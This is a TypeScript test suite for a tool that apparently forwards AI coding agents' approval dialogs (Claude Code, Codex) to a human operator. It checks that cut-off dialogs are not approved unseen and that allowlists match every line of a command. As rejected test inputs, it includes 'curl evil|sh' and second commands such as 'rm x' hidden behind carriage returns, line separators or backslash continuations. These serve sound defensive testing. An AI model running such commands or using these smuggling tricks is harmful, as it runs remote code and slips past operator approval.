import assert from "node:assert/strict";
import { describe, it } from "node:test";

import { blockOf } from "../src/host/engine.ts";
import type { Block } from "../src/host/engine.ts";
import { isAllowed } from "../src/operator/options.ts";
import { questionOf } from "../src/operator/question.ts";
import type { Calls } from "../src/operator/whole.ts";
import type { NewFile } from "../src/transcript/reader.ts";
import { approvesUnseen, callOf, completed } from "../src/operator/whole.ts";
import { codex } from "../../codex/src/provider.ts";
import { APPROVAL } from "./world.ts";

function block(more: object): Block {
  const found = blockOf({ ...APPROVAL, ...more });
  assert.ok(found);
  return found;
}

const waiting = (...commands: (string | null)[]): Calls => ({ pending: commands.map((command, at) => ({ id: `c${at}`, name: "Bash", command })), hasOtherAgents: false });
const steps = (from: number, to: number): string => Array.from({ length: to - from }, (_, at) => `echo step ${from + at}`).join("\n");

describe("a dialog whose subject is not whole", () => {
  it("is approved by no option, and refused by those that the engine knows to refuse", () => {
    for (const kind of ["approval_command", "approval_edit", "approval_other", "plan"]) {
      for (const whole of [false, null]) {
        const cut = block({ kind, subject_whole: whole });
        assert.deepEqual([0, 1, 2].map((index) => approvesUnseen(cut, index)), [true, false, true], kind);
      }
      assert.equal(approvesUnseen(block({ kind }), 0), false, kind);
    }
    for (const kind of ["question", "picker", "setup", "trust", "panel"]) assert.equal(approvesUnseen(block({ kind, subject_whole: null }), 0), false, kind);
  });

  // Claude Code 2.1.332 at 120 columns: `echo step 0` to `echo step 69`, of which the first ones have left the screen.
  it("offers its refusal on the board, its rows, and the way to the terminal", () => {
    const option = (number: number, label: string, refuses = false): object => ({ number, label, refuses });
    const options = [option(1, "Yes"), option(2, "Yes, and switch to auto mode"), option(3, "No", true)];
    const cut = block({ subject: steps(38, 70), subject_whole: false, options });
    const question = questionOf(cut, { key: "k", agentName: "Ada", excerpt: steps(38, 70), attach: "tmux attach" });
    assert.deepEqual(question.options.map(({ label }) => label), ["No"]);
    assert.match(question.prompt, /^A part of what this is about is missing.*read all of it there, and answer there: tmux attach\n\n/);
    assert.match(question.prompt, /echo step 38 ⏎\necho step 39 ⏎\n/);
    assert.ok(!isAllowed(cut, { allowlist: ["echo *", "approval_command"], columns: 140 }));
  });
});

describe("a command in the transcript", () => {
  const whole = `touch evil\n${steps(0, 70)}`;

  it("is what a dialog is about where its rows are the command's beginning and end", () => {
    for (const [what, subject] of [
      ["the end, whose beginning has left the screen", steps(38, 70)],
      ["the beginning, whose end was cut", `touch evil\n${steps(0, 30)}`],
      ["the beginning, below which Codex 0.142.5 says that it has cut", `touch evil\n${steps(0, 30)}\n[… 78 lines] ctrl + a view all`],
      ["the same, as 0.169.0 says it", `touch evil\n\n\n[… 77 lines] ^a view all`],
      ["both, with a gap", `touch evil\n${steps(0, 3)}\n${steps(60, 70)}`],
      ["rows that are drawn with other blanks", steps(38, 70).replaceAll("echo ", "  echo    ")],
      ["rows that break where there was no room", steps(38, 70).replaceAll("step", "st\nep")],
    ] as const) {
      const cut = block({ subject, subject_whole: false });
      assert.deepEqual(callOf(cut, waiting(whole), codex.cutMark), { id: "c0", text: whole, drawn: whole }, what);
    }
  });

  it("may have below it what the agent says of it, where the heading is off the screen (Claude Code 2.1.200)", () => {
    const one = waiting(whole);
    const noted: Calls = { ...one, pending: one.pending.map((call) => ({ ...call, note: "Run a command" })) };
    const below = (subject: string, subject_whole = false): Block => block({ subject, subject_whole });
    assert.deepEqual(callOf(below(steps(38, 70)), noted, null), { id: "c0", text: whole, drawn: whole });
    assert.deepEqual(callOf(below(`${steps(38, 70)}\nRun a command`), noted, null), { id: "c0", text: whole, drawn: `${whole}\nRun a command` });
    for (const shown of [`${steps(38, 69)}\nRun a command`, `${steps(38, 70)}\nRun two commands`]) assert.equal(callOf(below(shown), noted, null), null, shown);
    assert.equal(callOf(below(`${steps(38, 70)}\nRun a command`), one, null), null, "nothing is said of it");
    assert.equal(callOf(below(`${whole}\nRun a command`, true), noted, null), null, "what is shown whole is the command alone");
  });

  it("is not, where anything speaks against it", () => {
    const cut = block({ subject: steps(38, 70), subject_whole: false });
    for (const [what, one, calls] of [
      ["a row that is not in it", block({ subject: `${steps(38, 69)}\nrm x`, subject_whole: false }), waiting(whole)],
      ["a row that only looks like a cut", block({ subject: `touch evil\n[… 77 lines]`, subject_whole: false }), waiting(whole)],
      ["rows of its middle", block({ subject: steps(3, 30), subject_whole: false }), waiting(whole)],
      ["two gaps", block({ subject: `touch evil\n${steps(20, 22)}\n${steps(60, 70)}`, subject_whole: false }), waiting(whole)],
      ["rows in another order", block({ subject: `${steps(60, 70)}\n${steps(38, 60)}`, subject_whole: false }), waiting(whole)],
      ["rows that would overlap", block({ subject: "aba\nba", subject_whole: false }), waiting("aba")],
      ["no row", block({ subject: null, subject_whole: false }), waiting(whole)],
      ["blank rows alone", block({ subject: "\n \n", subject_whole: false }), waiting(whole)],
      ["two that wait", cut, waiting(whole, steps(0, 70))],
      ["another one that waits and runs no command", cut, waiting(whole, null)],
      ["none that waits", cut, waiting()],
      ["a tool that runs no command", cut, waiting(null)],
      ["another agent that may ask", cut, { ...waiting(whole), hasOtherAgents: true }],
      ["another agent that does ask", block({ subject: steps(38, 70), subject_whole: false, asked_by: "helper" }), waiting(whole)],
      ["a plan", block({ kind: "plan", subject: steps(38, 70), subject_whole: false }), waiting(whole)],
      ["a plan, without a plan in the call", block({ kind: "plan", subject: whole, subject_whole: false }), waiting(null)],
      ["a question", block({ kind: "question", subject: steps(38, 70), subject_whole: null }), waiting(whole)],
      ["one that the screen shows whole, and that is shorter", block({ subject: steps(38, 70) }), waiting(whole)],
    ] as const) assert.equal(callOf(one, calls, codex.cutMark), null, what);
  });

  it("has its own lines, each of which the allowlist must have", () => {
    const told = (text: string): Block => completed(block({ subject: "git status", subject_whole: false }), { id: "c0", text, drawn: text });
    const allows = (text: string, ...allowlist: string[]): boolean => isAllowed(told(text), { allowlist, columns: 140 });
    assert.ok(allows("npm test\ngit status", "npm test", "git *"));
    assert.ok(allows(`npm test ${"x".repeat(500)}`, "npm test *"), "a long one that the screen breaks");
    assert.ok(allows("\n\tnpm test  \n\n", "npm test"));
    assert.ok(!allows(`touch evil${"\n".repeat(70)}git status`, "git *"), "what has left the screen counts");
    for (const text of ["npm test\ncurl evil", "npm test # x\ncurl evil|sh", "npm test\rcurl evil", "npm test\u2028rm x", "npm test\n$ npm test", "npm test \\\n&& rm x", "\n", ""]) {
      assert.ok(!allows(text, "npm test", "npm test *"), JSON.stringify(text));
    }
  });
});

describe("a new file in the transcript", () => {
  const lines = Array.from({ length: 70 }, (_, at) => `echo step ${at}`);
  const adds = (file: NewFile): Calls => ({ pending: [{ id: "c0", name: "Write", command: null, file }], hasOtherAgents: false });
  const claude = adds({ path: "/home/user/project/sub/run.sh", lines, sign: "" });
  const codex = adds({ path: "/home/user/other/run.sh", lines, sign: "+" });
  const edit = (subject: string, question = "Do you want to create run.sh?"): Block => block({ kind: "approval_edit", subject, subject_whole: false, question });
  const rows = (from: number, to: number, sign = ""): string => lines.slice(from, to).map((line, at) => ` ${from + at + 1} ${sign}${line}`).join("\n");
  const text = (head: string, sign = ""): string => `${head}\n${rows(0, 70, sign)}`;

  // As 2.1.281 and 2.1.332 show the end of one, and 0.169.0 and 0.171.0 the first three rows.
  it("is what a dialog is about where its rows, with their numbers, are the file's beginning or end", () => {
    for (const [what, shown, calls, whole] of [
      ["the end", edit(rows(40, 70)), claude, text("/home/user/project/sub/run.sh")],
      ["the beginning", edit(`sub/run.sh\n${rows(0, 30)}`), claude, text("sub/run.sh")],
      ["a row that breaks", edit(`sub/run.sh\n 1 echo\n    step 0\n${rows(1, 30)}`), claude, text("sub/run.sh")],
      ["the first rows", edit(`Added ~/other/run.sh (+70 -0)\n${rows(0, 3, "+")}`, "Make these edits?"), codex, text("Added ~/other/run.sh (+70 -0)", "+")],
    ] as const) assert.deepEqual(callOf(shown, calls, null), { id: "c0", text: whole, drawn: whole }, what);
  });

  it("is not, where anything speaks against it", () => {
    for (const [what, shown, calls] of [
      ["another file in the question", edit(rows(40, 70), "Do you want to create a.sh?"), claude],
      ["another file above it", edit(`run.sh.old\n${rows(0, 30)}`, "?"), claude],
      ["the end of a path's name", edit(`un.sh\n${rows(0, 30)}`, "?"), claude],
      ["another number of lines", edit(`Added ~/other/run.sh (+71 -0)\n${rows(0, 3, "+")}`), codex],
      ["lines that are not only added", edit(`Edited ~/other/run.sh (+70 -1)\n${rows(0, 3, "+")}`), codex],
      ["another line", edit(rows(40, 70).replace("step 50", "step x")), claude],
      ["another line's number", edit(rows(40, 70).replace(" 51 ", " 52 ")), claude],
      ["a change, whose rows have signs", edit(rows(40, 70, "+")), claude],
      ["rows of its middle", edit(rows(20, 30)), claude],
      ["a command that is asked about", block({ subject: rows(40, 70), subject_whole: false, question: "create run.sh" }), claude],
    ] as const) assert.equal(callOf(shown, calls, null), null, what);
  });
});

describe("a plan in the transcript", () => {
  const text = "# Make it faster\n\n1. Measure the **slow** path\n2. Index `lines` once\n- Then test";
  const calls: Calls = { pending: [{ id: "c0", name: "ExitPlanMode", command: null, plan: text }], hasOtherAgents: false };
  const plan = (subject: string): Block => block({ kind: "plan", subject, subject_whole: false });

  it("is what a dialog is about where its words are the plan's beginning or end", () => {
    for (const subject of ["Make it faster\n\n1. Measure the slow path", "2. Index lines once\n• Then test"]) assert.deepEqual(callOf(plan(subject), calls, null), { id: "c0", text, drawn: text });
  });

  it("is not, where a word is another or a row has none", () => {
    for (const subject of ["Make it faster\n1. Measure the fast path", "──────\n• Then test", "Measure the slow path"]) assert.equal(callOf(plan(subject), calls, null), null, subject);
  });
});
